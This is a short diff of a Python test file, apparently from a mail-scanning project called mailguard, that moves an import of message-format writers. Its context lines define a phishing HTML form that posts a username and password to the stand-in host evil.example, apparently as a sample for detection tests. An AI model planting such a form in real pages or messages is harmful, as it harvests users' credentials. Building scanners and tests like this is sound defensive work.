@@ -4,8 +4,8 @@ import base64
 
 import pytest
 
+from mailguard.mailmaker.writers import formats as makers
 from tests.mailguard.files.examined import inside, outer, traits
-from tools.mailmaker.writers import formats as makers
 
 FORM = (
     '<form action="https://evil.example/post" method="post"><input name=u><input type=password name=p></form>'
